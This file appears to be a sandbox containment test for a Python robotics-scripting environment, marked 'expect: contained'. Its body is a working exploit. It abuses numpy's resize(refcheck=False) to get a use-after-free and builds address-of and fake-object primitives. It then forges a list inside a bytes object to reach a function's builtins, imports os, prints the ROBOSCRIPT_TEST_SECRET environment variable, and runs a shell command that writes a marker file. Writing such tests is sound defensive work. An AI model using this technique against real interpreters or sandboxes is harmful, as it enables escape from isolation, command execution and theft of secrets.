# class: numpy_raw_memory
# expect: contained
# attack: use-after-free through ndarray.resize(refcheck=False): an int view left on the freed block aliases an object array put there (addrof/fakeobj), then a fake list in a bytes object reads a function's builtins and imports os

names = get_object_name_list()
keep = []


def aliased_pair(n):
    for attempt in range(60):
        source = np.zeros(n)
        owner = np.zeros(n, dtype=np.int64)
        ints = owner[:]
        owner.resize(n * 16, refcheck=False)
        owner[0] = 12345
        keep.append(owner)
        if ints[0] == 12345:
            continue
        marker = (1, 2)
        objects = source.astype("O")
        for i in range(n):
            objects[i] = marker
        keep.append(objects)
        first = int(ints[0])
        if first != 0 and all(int(ints[i]) == first for i in range(n)):
            return ints, objects
    return None, None


def packed(values):
    text = ""
    for value in values:
        for k in range(8):
            text += chr((value >> (8 * k)) & 255)
    return text.encode("latin-1")


ints, objects = aliased_pair(256)
if ints is None:
    print("no aliasing this time")
else:

    def address_of(thing):
        objects[1] = thing
        return int(ints[1])

    def object_at(address):
        ints[2] = address
        found = objects[2]
        ints[2] = 0
        return found

    def pointer_field(thing, offset):
        fake = packed([1 << 40, address_of(list), 1, address_of(thing) + offset, 1])
        keep.append(fake)
        return object_at(address_of(fake) + 32)[0]

    real = None
    for function in (Pose.copy, get_object_name_list, print):
        for offset in (24, 16):
            candidate = pointer_field(function, offset)
            if isinstance(candidate, dict) and "open" in candidate and "__import__" in candidate:
                real = candidate
                break
        if real is not None:
            break
    if real is not None:
        os_module = real["__import__"]("os")
        print(real["getattr"](os_module, "environ").get("ROBOSCRIPT_TEST_SECRET"))
        real["getattr"](os_module, "system")("touch MARK")
        handle = real["open"]("MARK", "a")
        handle.write("escaped")
        handle.close()
print("placed", names[0])
